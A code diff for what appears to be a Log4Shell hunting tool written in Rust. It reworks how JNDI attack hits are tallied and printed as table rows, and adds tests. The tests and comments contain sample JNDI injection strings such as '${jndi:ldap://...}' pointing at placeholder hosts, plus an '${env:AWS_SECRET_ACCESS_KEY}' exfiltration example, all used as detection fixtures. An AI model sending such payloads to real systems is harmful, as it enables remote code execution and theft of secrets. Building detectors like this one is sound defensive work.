@@ -7,6 +7,8 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
 use std::net::IpAddr;
 
+use hashbrown::DefaultHashBuilder;
+use indexmap::IndexMap;
 use serde::Serialize;
 
 use super::input::HuntTotals;
@@ -15,17 +17,52 @@ use super::{Hit, HitClass};
 /// Longest decoded payload shown in a table row, in characters.
 pub const TABLE_PAYLOAD_CHARS: usize = 80;
 
+/// Bit of each JNDI protocol in [`TargetTally`], by canonical name; others are kept by name.
+const KNOWN_PROTOCOLS: [&str; 10] = [
+    "corba", "dns", "http", "https", "iiop", "ldap", "ldaps", "nds", "nis", "rmi",
+];
+
 /// How often one callback host was named, and how.
-#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct TargetTally {
     /// Hits naming the host.
     pub hits: u64,
-    /// JNDI protocols used with it, e.g. `ldap`.
-    pub protocols: BTreeSet<String>,
+    /// Known protocols used with it, one bit per [`KNOWN_PROTOCOLS`] entry: nearly every host
+    /// is new in a hunt over an attack campaign, and a set of strings would cost two
+    /// allocations per host.
+    known_protocols: u16,
+    /// Other protocols used with it, lower-cased.
+    other_protocols: BTreeSet<String>,
     /// Ports used with it.
     pub ports: BTreeSet<u16>,
     /// Victim data sent to it, e.g. `${env:AWS_SECRET_ACCESS_KEY}`.
     pub exfiltration: BTreeSet<String>,
+}
+
+impl TargetTally {
+    /// JNDI protocols used with the host, e.g. `ldap`, in alphabetical order.
+    pub fn protocols(&self) -> Vec<&str> {
+        let mut protocols: Vec<&str> = KNOWN_PROTOCOLS
+            .iter()
+            .enumerate()
+            .filter(|(bit, _)| self.known_protocols & (1 << bit) != 0)
+            .map(|(_, name)| *name)
+            .chain(self.other_protocols.iter().map(String::as_str))
+            .collect();
+        protocols.sort_unstable();
+        protocols
+    }
+
+    fn add_protocol(&mut self, name: &str) {
+        match KNOWN_PROTOCOLS.iter().position(|known| *known == name) {
+            Some(bit) => self.known_protocols |= 1 << bit,
+            None => {
+                if !self.other_protocols.contains(name) {
+                    self.other_protocols.insert(name.to_string());
+                }
+            }
+        }
+    }
 }
 
 /// The first hit of a hunt, as evidence of when and where the attack was seen.
@@ -40,18 +77,23 @@ pub struct FirstHit {
 }
 
 /// Hits counted by class, callback host and source address.
-#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+///
+/// Hosts and sources are counted in insertion-ordered hash maps and sorted only when asked for:
+/// in a campaign nearly every hit names a new callback host, and keeping them ordered while
+/// counting (a B-tree of strings) cost more than finding the hit. The maps' tables hold only
+/// positions, so they stay small enough for the cache while the entries are appended.
+#[derive(Debug, Clone, Default)]
 pub struct Tally {
-    /// Hits per class name (`jndi`, `exfiltration`, ...).
-    pub hits_per_class: BTreeMap<&'static str, u64>,
+    /// Hits per class, indexed like [`HitClass::ALL`].
+    class_hits: [u64; HitClass::ALL.len()],
     /// Callback hosts, lower-cased, with lookups left in place.
-    pub targets: BTreeMap<String, TargetTally>,
+    targets: IndexMap<Box<str>, TargetTally, DefaultHashBuilder>,
     /// Source addresses and their hit counts.
-    pub sources: BTreeMap<IpAddr, u64>,
+    sources: IndexMap<IpAddr, u64, DefaultHashBuilder>,
     /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
-    pub examples: Vec<String>,
+    examples: Vec<String>,
     /// The first hit recorded.
-    pub first: Option<FirstHit>,
+    first: Option<FirstHit>,
 }
 
 impl Tally {
@@ -60,23 +102,26 @@ impl Tally {
 
     /// Counts one hit found in `input`.
     pub fn record(&mut self, input: &str, hit: &Hit) {
-        *self.hits_per_class.entry(hit.class.as_str()).or_default() += 1;
+        self.class_hits[class_index(hit.class)] += 1;
         if let Some(host) = &hit.target_host {
-            // Hosts are mostly lower-case already and mostly seen before: no allocation then.
-            let host: Cow<'_, str> = if host.chars().any(char::is_uppercase) {
+            // Hosts are mostly lower-case already: no allocation for the lookup then.
+            let upper = if host.is_ascii() {
+                host.bytes().any(|b| b.is_ascii_uppercase())
+            } else {
+                host.chars().any(char::is_uppercase)
+            };
+            let host: Cow<'_, str> = if upper {
                 Cow::Owned(host.to_lowercase())
             } else {
                 Cow::Borrowed(host)
             };
-            let target = match self.targets.get_mut(host.as_ref()) {
-                Some(target) => target,
-                None => self.targets.entry(host.into_owned()).or_default(),
+            let target = match self.targets.get_index_of(host.as_ref()) {
+                Some(index) => &mut self.targets[index],
+                None => self.targets.entry(host.into()).or_default(),
             };
             target.hits += 1;
-            if let Some(protocol) = &hit.protocol
-                && !target.protocols.contains(protocol.as_str())
-            {
-                target.protocols.insert(protocol.to_string());
+            if let Some(protocol) = &hit.protocol {
+                target.add_protocol(protocol.as_str());
             }
             target.ports.extend(hit.target_port);
             target
@@ -101,7 +146,75 @@ impl Tally {
 
     /// Total hits counted.
     pub fn hits(&self) -> u64 {
-        self.hits_per_class.values().sum()
+        self.class_hits.iter().sum()
+    }
+
+    /// Hits of one class.
+    pub fn class_hits(&self, class: HitClass) -> u64 {
+        self.class_hits[class_index(class)]
+    }
+
+    /// Hits per class name (`jndi`, `exfiltration`, ...), for the classes seen.
+    pub fn hits_per_class(&self) -> BTreeMap<&'static str, u64> {
+        HitClass::ALL
+            .iter()
+            .map(|&class| (class.as_str(), self.class_hits(class)))
+            .filter(|&(_, hits)| hits > 0)
+            .collect()
+    }
+
+    /// Callback hosts (lower-cased, with lookups left in place) in name order.
+    pub fn targets(&self) -> Vec<(&str, &TargetTally)> {
+        let mut targets: Vec<(&str, &TargetTally)> = self
+            .targets
+            .iter()
+            .map(|(host, target)| (host.as_ref(), target))
+            .collect();
+        targets.sort_unstable_by(|a, b| a.0.cmp(b.0));
+        targets
+    }
+
+    /// What is known about one callback host, given lower-cased.
+    pub fn target(&self, host: &str) -> Option<&TargetTally> {
+        self.targets.get(host)
+    }
+
+    /// Distinct callback hosts.
+    pub fn distinct_targets(&self) -> usize {
+        self.targets.len()
+    }
+
+    /// Source addresses and their hit counts, in address order.
+    pub fn sources(&self) -> Vec<(IpAddr, u64)> {
+        let mut sources: Vec<(IpAddr, u64)> =
+            self.sources.iter().map(|(ip, n)| (*ip, *n)).collect();
+        sources.sort_unstable();
+        sources
+    }
+
+    /// Distinct source addresses.
+    pub fn distinct_sources(&self) -> usize {
+        self.sources.len()
+    }
+
+    /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
+    pub fn examples(&self) -> &[String] {
+        &self.examples
+    }
+
+    /// The first hit recorded.
+    pub fn first(&self) -> Option<&FirstHit> {
+        self.first.as_ref()
+    }
+}
+
+/// Position of `class` in [`HitClass::ALL`].
+fn class_index(class: HitClass) -> usize {
+    match class {
+        HitClass::Jndi => 0,
+        HitClass::Exfiltration => 1,
+        HitClass::RecursionDos => 2,
+        HitClass::PostExploitation => 3,
     }
 }
 
@@ -138,7 +251,7 @@ impl Summary {
     ) -> Self {
         let mut hits_per_class: BTreeMap<&'static str, u64> =
             HitClass::ALL.iter().map(|c| (c.as_str(), 0)).collect();
-        hits_per_class.extend(tally.hits_per_class.iter().map(|(k, v)| (*k, *v)));
+        hits_per_class.extend(tally.hits_per_class());
         let megabytes_per_second = if elapsed_seconds > 0.0 {
             totals.scan.bytes as f64 / 1e6 / elapsed_seconds
         } else {
@@ -148,8 +261,8 @@ impl Summary {
             kind: "summary",
             totals,
             hits_per_class,
-            distinct_targets: tally.targets.len(),
-            distinct_sources: tally.sources.len(),
+            distinct_targets: tally.distinct_targets(),
+            distinct_sources: tally.distinct_sources(),
             warnings,
             elapsed_seconds,
             megabytes_per_second,
@@ -209,18 +322,20 @@ pub fn table_row(input: &str, hit: &Hit) -> String {
 /// widths counts and pads each argument through the formatting machinery, which made
 /// printing a large part of a hunt's cost on logs full of attacks.
 pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
-    let mut location = String::with_capacity(input.len() + 12);
-    location.push_str(input);
-    location.push(':');
-    let _ = write!(location, "{}", hit.line_number);
-    push_printable_padded(row, &location, 60, 40);
+    let mut number = itoa::Buffer::new();
+    let location_start = row.len();
+    row.push_str(input);
+    row.push(':');
+    row.push_str(number.format(hit.line_number));
+    make_printable_from(row, location_start, 60);
+    pad_from(row, location_start, 40);
     row.push(' ');
-    let offset_start = row.len();
-    let _ = write!(row, "{}", hit.byte_offset);
-    let digits = row.len() - offset_start;
-    if digits < 12 {
-        row.insert_str(offset_start, &" ".repeat(12 - digits));
-    }
+    let offset = number.format(hit.byte_offset);
+    row.extend(std::iter::repeat_n(
+        ' ',
+        12usize.saturating_sub(offset.len()),
+    ));
+    row.push_str(offset);
     row.push(' ');
     let class_start = row.len();
     row.push_str(hit.class.as_str());
@@ -233,11 +348,19 @@ pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
     row.push_str(hit.protocol.as_ref().map_or("-", |p| p.as_str()));
     pad_from(row, protocol_start, 6);
     row.push(' ');
+    let target_start = row.len();
     match (&hit.target_host, hit.target_port) {
-        (Some(host), Some(port)) => push_printable_padded(row, &format!("{host}:{port}"), 48, 32),
-        (Some(host), None) => push_printable_padded(row, host, 48, 32),
-        _ => push_printable_padded(row, "-", 48, 32),
+        (Some(host), port) => {
+            row.push_str(host);
+            if let Some(port) = port {
+                row.push(':');
+                row.push_str(number.format(port));
+            }
+        }
+        _ => row.push('-'),
     }
+    make_printable_from(row, target_start, 48);
+    pad_from(row, target_start, 32);
     row.push(' ');
     let source_start = row.len();
     match hit.source_ip {
@@ -251,16 +374,21 @@ pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
     push_printable(row, &hit.decoded_payload, TABLE_PAYLOAD_CHARS);
 }
 
+/// Makes what was appended to `row` since `start` [`printable`]. Fields are written straight
+/// into the row; only the rare one with control characters or too long is copied out to be
+/// escaped or cut.
+fn make_printable_from(row: &mut String, start: usize, max_chars: usize) {
+    if is_plain(&row[start..], max_chars) {
+        return;
+    }
+    let text = row.split_off(start);
+    push_printable(row, &text, max_chars);
+}
+
 /// Pads what was appended to `row` since `start` with spaces to `width` characters, as `{:<width}`.
 fn pad_from(row: &mut String, start: usize, width: usize) {
     let chars = row[start..].chars().count();
     row.extend(std::iter::repeat_n(' ', width.saturating_sub(chars)));
-}
-
-fn push_printable_padded(row: &mut String, text: &str, max_chars: usize, width: usize) {
-    let start = row.len();
-    push_printable(row, text, max_chars);
-    pad_from(row, start, width);
 }
 
 /// A hit as one JSON object with the input it was found in (`"type": "hit"`).
@@ -288,11 +416,15 @@ pub fn printable(text: &str, max_chars: usize) -> String {
     out
 }
 
+/// True when [`printable`] leaves `text` as it is: short, without control characters (0xC2
+/// starts the UTF-8 of U+0080..U+00BF, which holds the C1 controls).
+fn is_plain(text: &str, max_chars: usize) -> bool {
+    text.len() <= max_chars && text.bytes().all(|b| b >= 0x20 && b != 0x7f && b != 0xc2)
+}
+
 /// Appends [`printable`]'s text to `out`.
 fn push_printable(out: &mut String, text: &str, max_chars: usize) {
-    // Short text without control characters (0xC2 starts the UTF-8 of U+0080..U+00BF, which
-    // holds the C1 controls) is copied as it is.
-    if text.len() <= max_chars && text.bytes().all(|b| b >= 0x20 && b != 0x7f && b != 0xc2) {
+    if is_plain(text, max_chars) {
         out.push_str(text);
         return;
     }
@@ -328,11 +460,12 @@ mod tests {
         tally.record("access.log", &a);
         tally.record("access.log", &b);
         assert_eq!(tally.hits(), 2);
-        let target = &tally.targets["evil.example"];
+        let target = tally.target("evil.example").unwrap();
         assert_eq!(target.hits, 2);
-        assert_eq!(target.protocols.iter().collect::<Vec<_>>(), ["ldap", "rmi"]);
-        assert_eq!(tally.sources.len(), 1);
-        assert_eq!(tally.first.as_ref().unwrap().line_number, 1);
+        assert_eq!(target.protocols(), ["ldap", "rmi"]);
+        assert_eq!(target.ports.iter().collect::<Vec<_>>(), [&1389]);
+        assert_eq!(tally.distinct_sources(), 1);
+        assert_eq!(tally.first().unwrap().line_number, 1);
 
         let totals = HuntTotals {
             files: 1,
@@ -345,6 +478,43 @@ mod tests {
         assert_eq!(json["type"], "summary");
         assert_eq!(json["files"], 1);
         assert!(summary.to_text().contains("warning: x: broken"));
+    }
+
+    #[test]
+    fn tally_sorts_hosts_sources_and_protocols_when_asked() {
+        let mut tally = Tally::default();
+        for line in [
+            "203.0.113.9 - - [x] \"GET /${jndi:rmi://b.example/x} HTTP/1.1\" 200 1",
+            "198.51.100.1 - - [x] \"GET /${jndi:iiop://a.example/x} HTTP/1.1\" 200 1",
+            "${jndi:Custom://b.example:99/x}",
+            "${jndi:ldap://B.example:7/x}",
+            "203.0.113.9 - - [x] \"GET /${jndi:dns://c.example/x} HTTP/1.1\" 200 1",
+        ] {
+            tally.record("t.log", &hit(line));
+        }
+        let hosts: Vec<&str> = tally.targets().iter().map(|(host, _)| *host).collect();
+        assert_eq!(hosts, ["a.example", "b.example", "c.example"]);
+        let b = tally.target("b.example").unwrap();
+        assert_eq!(b.hits, 3);
+        assert_eq!(b.protocols(), ["custom", "ldap", "rmi"]);
+        assert_eq!(b.ports.iter().copied().collect::<Vec<_>>(), [7, 99]);
+        let sources: Vec<(String, u64)> = tally
+            .sources()
+            .iter()
+            .map(|(ip, n)| (ip.to_string(), *n))
+            .collect();
+        assert_eq!(
+            sources,
+            [
+                ("198.51.100.1".to_string(), 1),
+                ("203.0.113.9".to_string(), 2)
+            ]
+        );
+        assert_eq!(
+            tally.hits_per_class().into_iter().collect::<Vec<_>>(),
+            [("jndi", 5)]
+        );
+        assert_eq!(tally.class_hits(HitClass::RecursionDos), 0);
     }
 
     /// The row as it was first written, with `format!` widths: the hand-padded row must match.
